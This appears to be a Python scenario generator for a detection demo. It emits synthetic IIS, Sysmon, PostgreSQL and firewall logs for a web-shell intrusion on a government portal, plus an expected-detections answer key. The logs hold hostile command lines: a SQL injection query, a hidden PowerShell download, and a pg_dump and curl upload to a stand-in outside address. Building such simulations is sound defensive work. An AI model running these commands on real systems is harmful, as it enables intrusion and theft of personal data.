"""Story 2: a web shell on the portal, gambling links in pages of communes, and a database that leaves by night."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count
from random import Random

from core.clock import HOUR, MINUTE, SECOND, Micros
from kydai.demo.emission import Flow, Given
from kydai.demo.lines_network import fortigate_traffic
from kydai.demo.lines_unix import audit_user, postgres
from kydai.demo.lines_web import iis
from kydai.demo.lines_windows import process, sysmon_file, sysmon_process, utc_time, windows
from kydai.demo.story import Story
from kydai.demo.truth import Expected, Truth
from kydai.demo.world import World

NAME = "webshell"
PROBER = "198.51.100.23"
OPERATOR = "203.0.113.118"
DROP = "198.51.100.200"
EXFILTRATED = 3_200_000_000
"""Bytes that leave over two hours, in 24 flow records of an active timeout of five minutes."""

SHELL = "/userfiles/files/banner.aspx"
_POOL_USER = r"IIS APPPOOL\CongTTDT"
_W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"
_W3WP_LINE = r'c:\windows\system32\inetsrv\w3wp.exe -ap "CongTTDT" -v "v4.0" -l "webengine4.dll"'
_CMD = r"C:\Windows\System32\cmd.exe"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
_SCANNER = "python-requests/2.32.3"

_PROBES = (
    "/wp-login.php",
    "/.git/config",
    "/.env",
    "/admin/",
    "/administrator/",
    "/phpmyadmin/",
    "/elmah.axd",
    "/trace.axd",
    "/web.config.bak",
    "/backup.zip",
    "/ckfinder/ckfinder.html",
    "/fckeditor/editor/filemanager/connectors/test.html",
    "/Telerik.Web.UI.WebResource.axd",
    "/upload.aspx",
    "/uploads/",
    "/aspnet_client/",
    "/_vti_bin/",
    "/login.aspx",
    "/ReportServer",
    "/owa/auth/logon.aspx",
    "/autodiscover/",
    "/api/swagger.json",
    "/server-status",
    "/cgi-bin/test.cgi",
)
_COMMANDS = (
    ("whoami /all", r"C:\Windows\System32\whoami.exe"),
    ("ipconfig /all", r"C:\Windows\System32\ipconfig.exe"),
    ("net user", r"C:\Windows\System32\net.exe"),
    ('net group "domain admins" /domain', r"C:\Windows\System32\net.exe"),
    ("tasklist /v", r"C:\Windows\System32\tasklist.exe"),
    ("nltest /dclist:bachvan.example", r"C:\Windows\System32\nltest.exe"),
    (r"type D:\web\cong\web.config", ""),
    ("netstat -ano", r"C:\Windows\System32\NETSTAT.EXE"),
    ("ping -n 1 csdl-db01", r"C:\Windows\System32\PING.EXE"),
)


def play(world: World, random: Random, start: Micros) -> Iterator[Given]:
    """Three hours: probing, upload, commands, links, discovery, dump, 3.2 GB out."""
    yield from _probing(world, random, start)
    yield from _upload(world, random, start + 9 * MINUTE)
    yield from _commands(world, random, start + 12 * MINUTE)
    yield from _links(world, random, start + 24 * MINUTE)
    yield from _discovery(world, random, start + 36 * MINUTE)
    yield from _dump(world, start + 45 * MINUTE)
    yield from _leaving(world, random, start + 62 * MINUTE)


def _probing(world: World, random: Random, start: Micros) -> Iterator[Given]:
    host = world.host("cong-web01")
    at = start
    for turn in range(170):
        at += random.randrange(600_000, 2_000_000)
        path = _PROBES[turn % len(_PROBES)]
        if turn % 9 == 8:
            query = "id=12%27%20UNION%20SELECT%20NULL,NULL,table_name%20FROM%20information_schema.tables--"
            yield iis(host, at, PROBER, "GET", "/tin-tuc/chi-tiet.aspx", query, 500, 61, _SCANNER, story=NAME)
        else:
            prefix = world.communes[turn % 3][0] if turn % 5 == 4 else ""
            status = 200 if path == "/ckfinder/ckfinder.html" else 403 if path.endswith("/") else 404
            yield iis(
                host,
                at,
                PROBER,
                "GET",
                f"/{prefix}{path}" if prefix else path,
                "",
                status,
                4 + turn % 9,
                _SCANNER,
                story=NAME,
            )


def _upload(world: World, random: Random, at: Micros) -> Iterator[Given]:
    host = world.host("cong-web01")
    yield iis(host, at, OPERATOR, "GET", "/ckfinder/ckfinder.html", "", 200, 11, _BROWSER, story=NAME)
    yield iis(
        host,
        at + 6 * SECOND,
        OPERATOR,
        "POST",
        "/ckfinder/core/connector/aspx/connector.aspx",
        "command=FileUpload&type=Files&currentFolder=%2F",
        200,
        148,
        _BROWSER,
        story=NAME,
    )
    stamp = utc_time(at + 6 * SECOND + 90_000)
    yield windows(
        host,
        at + 6 * SECOND + 90_000,
        sysmon_file(stamp, _POOL_USER, _W3WP, r"D:\web\cong\userfiles\files\banner.aspx", 4312),
        771_200,
        NAME,
    )
    yield iis(host, at + 15 * SECOND, OPERATOR, "GET", SHELL, "", 200, 402, _BROWSER, story=NAME)


def _commands(world: World, random: Random, start: Micros) -> Iterator[Given]:
    host = world.host("cong-web01")
    at, pids = start, count(6100, 12)
    for turn, (command, image) in enumerate(_COMMANDS):
        at += random.randrange(18 * SECOND, 55 * SECOND)
        yield iis(host, at, OPERATOR, "POST", SHELL, "", 200, 180 + turn * 7, _BROWSER, story=NAME)
        yield from _shell(world, at + 40_000, command, image, next(pids), 771_210 + turn * 3)
    at += 30 * SECOND
    yield iis(host, at, OPERATOR, "POST", SHELL, "", 200, 2210, _BROWSER, story=NAME)
    line = 'powershell -nop -w hidden -ep bypass -c "iwr http://203.0.113.118/p.txt -OutFile D:\\web\\p.ps1"'
    yield from _shell(world, at + 40_000, line, _POWERSHELL, next(pids), 771_260)


def _shell(world: World, at: Micros, command: str, image: str, pid: int, record: int) -> Iterator[Given]:
    """``cmd.exe /c`` under the web server's worker, by Sysmon and by the Security log."""
    host = world.host("cong-web01")
    folder = "C:\\Windows\\SysWOW64\\inetsrv\\"
    line = f'"{_CMD}" /c {command}'
    yield windows(
        host,
        at,
        sysmon_process(utc_time(at), _POOL_USER, _CMD, line, folder, _W3WP, _W3WP_LINE, pid, 4312),
        record,
        NAME,
    )
    yield windows(
        host, at + 2_000, process("CongTTDT", "IIS APPPOOL", "0x5a1c3", _CMD, line, _W3WP, pid, 4312), record + 1, NAME
    )
    if image:
        at += 31_000
        yield windows(
            host,
            at,
            sysmon_process(utc_time(at), _POOL_USER, image, command, folder, _CMD, line, pid + 4, pid),
            record + 2,
            NAME,
        )


def _links(world: World, random: Random, start: Micros) -> Iterator[Given]:
    host = world.host("cong-web01")
    for turn, (slug, _) in enumerate(world.communes[:3]):
        at = start + turn * 70 * SECOND
        yield iis(host, at, OPERATOR, "POST", SHELL, "", 200, 96, _BROWSER, story=NAME)
        for page in ("index.html", "tin-tuc.html", "footer.inc"):
            at += 300_000
            target = f"D:\\web\\cong\\{slug}\\{page}"
            yield windows(
                host, at, sysmon_file(utc_time(at), _POOL_USER, _W3WP, target, 4312), 771_300 + turn * 5, NAME
            )
        yield iis(
            host,
            at + 40 * SECOND,
            "192.0.2.190",
            "GET",
            f"/{slug}/index.html",
            "",
            200,
            21,
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.example/bot.html)",
            story=NAME,
        )


def _discovery(world: World, random: Random, start: Micros) -> Iterator[Given]:
    host = world.host("cong-web01")
    yield from _shell(world, start, "net view /domain", r"C:\Windows\System32\net.exe", 6600, 771_330)
    line = 'powershell -nop -c "1..254|%{Test-NetConnection 10.20.5.$_ -Port 5432}"'
    yield from _shell(world, start + 20 * SECOND, line, _POWERSHELL, 6620, 771_336)
    for last in range(1, 64):
        at = start + 22 * SECOND + last * 210_000
        answered = last in (11, 12)
        yield Flow(
            at,
            "sw-core01",
            host.address,
            f"10.20.5.{last}",
            49200 + last,
            5432,
            6,
            420 if answered else 104,
            6 if answered else 2,
            at - 100_000,
            0x1B if answered else 0x02,
            NAME,
        )


def _dump(world: World, start: Micros) -> Iterator[Given]:
    web, host = world.host("cong-web01"), world.host("csdl-db01")
    user, client = world.accounts["database"], f"{web.address}:49877"
    line = count(1)

    def said(at: Micros, tag: str, message: str, app: str = "pg_dump") -> Given:
        return postgres(
            host,
            at,
            pid=28114,
            user=user,
            database="dancu",
            client=client,
            line=next(line),
            tag=tag,
            message=message,
            app=app,
            started=start,
            story=NAME,
        )

    dump = r"D:\web\cong\userfiles\pg_dump.exe -h csdl-db01 -U lgsp_ro -d dancu -f D:\web\cong\userfiles\d.sql"
    yield from _shell(world, start - 2 * SECOND, dump, r"D:\web\cong\userfiles\pg_dump.exe", 6700, 771_340)
    yield postgres(
        host,
        start,
        pid=28114,
        user="",
        database="",
        client=client,
        line=next(line),
        tag="",
        message=f"connection received: host={web.address} port=49877",
        started=start,
        story=NAME,
    )
    yield said(
        start + 20_000,
        "authentication",
        f'connection authenticated: identity="{user}" method=scram-sha-256 (/etc/postgresql/16/main/pg_hba.conf:104)',
        "",
    )
    yield said(
        start + 24_000, "authentication", f"connection authorized: user={user} database=dancu application_name=pg_dump"
    )
    yield audit_user(host, start + 30_000, 40211, "USER_AUTH", user, web.address, good=True, pid=28114, story=NAME)
    at = start + SECOND
    for table in ("cong_dan", "ho_gia_dinh", "giay_to", "ho_so_tthc", "tai_khoan_dich_vu", "lich_su_cu_tru"):
        yield said(at, "COPY", f"statement: COPY public.{table} TO stdout;")
        at += 95 * SECOND
        yield said(at, "COPY", f"duration: {95_000 - len(table) * 100}.112 ms")
    yield said(
        at + SECOND,
        "idle",
        f"disconnection: session time: 0:09:{31:02d}.204 user={user} database=dancu host={web.address} port=49877",
    )
    for number in range(3):
        at = start + (number + 1) * 3 * MINUTE
        yield Flow(
            at,
            "sw-core01",
            host.address,
            web.address,
            5432,
            49877,
            6,
            1_066_000_000 + number,
            740_000,
            at - 3 * MINUTE,
            0x18,
            NAME,
        )


def _leaving(world: World, random: Random, start: Micros) -> Iterator[Given]:
    host, fw = world.host("cong-web01"), world.host("fw-ttdl")
    yield from _shell(
        world,
        start - 20 * SECOND,
        r"curl.exe -s -T D:\web\cong\userfiles\d.7z https://198.51.100.200/u/ -k",
        r"C:\Windows\System32\curl.exe",
        6800,
        771_350,
    )
    records = 24
    share = EXFILTRATED // records
    sizes = [share + (random.randrange(-share // 6, share // 6)) for _ in range(records - 1)]
    sizes.append(EXFILTRATED - sum(sizes))
    sent = 0
    for number, size in enumerate(sizes):
        at = start + (number + 1) * 5 * MINUTE
        sent += size
        yield Flow(at, "fw-ttdl", host.address, DROP, 50931, 443, 6, size, size // 1_380, at - 5 * MINUTE, 0x18, NAME)
        last = number == records - 1
        if number % 6 == 5:
            yield fortigate_traffic(
                fw,
                at + 90_000,
                src=host.address,
                sport=50931,
                dst=DROP,
                dport=443,
                proto=6,
                session=8_812_204,
                action="close" if last else "accept",
                policy=(12, "DMZ-RA-NGOAI"),
                service="HTTPS",
                sent=sent,
                received=sent // 60,
                duration=(number + 1) * 300,
                zones=("dmz", "wan1"),
                nat=world.nat,
                app="SSL",
                story=NAME,
            )


STORY = Story(
    name=NAME,
    title={
        "vi": "Cửa hậu web trên cổng thông tin, lấy dữ liệu ra ngoài",
        "en": "Web shell on the portal, data carried out",
    },
    hours=("21:20", "13:35", "08:20", "05:10"),
    lasts=3 * HOUR + 4 * MINUTE,
    play=play,
    truth=Truth(
        hosts=("cong-web01", "csdl-db01"),
        outside=(PROBER, OPERATOR, DROP),
        accounts=("lgsp_ro",),
        expects=(
            Expected(
                {"vi": "một địa chỉ gây nhiều lỗi 404 và 403", "en": "many 404 and 403 from one address"},
                "cong-web01",
                "T1595.003",
            ),
            Expected({"vi": "chèn mã SQL trong truy vấn web", "en": "SQL injection in a query"}, "cong-web01", "T1190"),
            Expected(
                {
                    "vi": "tiến trình máy chủ web ghi tệp mã lệnh",
                    "en": "script file written by the web server's process",
                },
                "cong-web01",
                "T1505.003",
            ),
            Expected(
                {"vi": "máy chủ web mở trình lệnh", "en": "child shell of the web server"},
                "cong-web01",
                "T1505.003",
            ),
            Expected(
                {"vi": "tài khoản dịch vụ chạy lệnh thăm dò", "en": "discovery commands by a service account"},
                "cong-web01",
                "T1087.002",
            ),
            Expected(
                {"vi": "PowerShell chạy ẩn tải tệp về", "en": "hidden PowerShell download"}, "cong-web01", "T1059.001"
            ),
            Expected(
                {
                    "vi": "tiến trình máy chủ web ghi đè trang web",
                    "en": "web pages rewritten by the web server's process",
                },
                "cong-web01",
                "T1491.002",
            ),
            Expected(
                {"vi": "dò quét vùng cơ sở dữ liệu (luồng mạng)", "en": "scan of the database zone (flows)"},
                "cong-web01",
                "T1046",
            ),
            Expected(
                {
                    "vi": "máy khách lạ sao chép nguyên bảng PostgreSQL",
                    "en": "whole tables copied from PostgreSQL by an unusual client",
                },
                "csdl-db01",
                "T1213",
            ),
            Expected(
                {
                    "vi": "hàng GB ra một địa chỉ bên ngoài (luồng mạng)",
                    "en": "gigabytes to one outside address (flows)",
                },
                "cong-web01",
                "T1048",
            ),
        ),
        summary={
            "vi": "Một tệp aspx được tải lên cổng thông tin, chạy lệnh dưới quyền máy chủ web, chèn liên kết cờ bạc "
            "vào trang của ba xã, phường, sao chép dữ liệu từ csdl-db01 và chuyển 3,2 GB ra một địa chỉ trong hai giờ.",
            "en": "An aspx file is uploaded to the portal, runs commands as the web server, hides gambling links in "
            "pages of three communes, dumps csdl-db01 and carries 3.2 GB to one address in two hours.",
        },
    ),
)
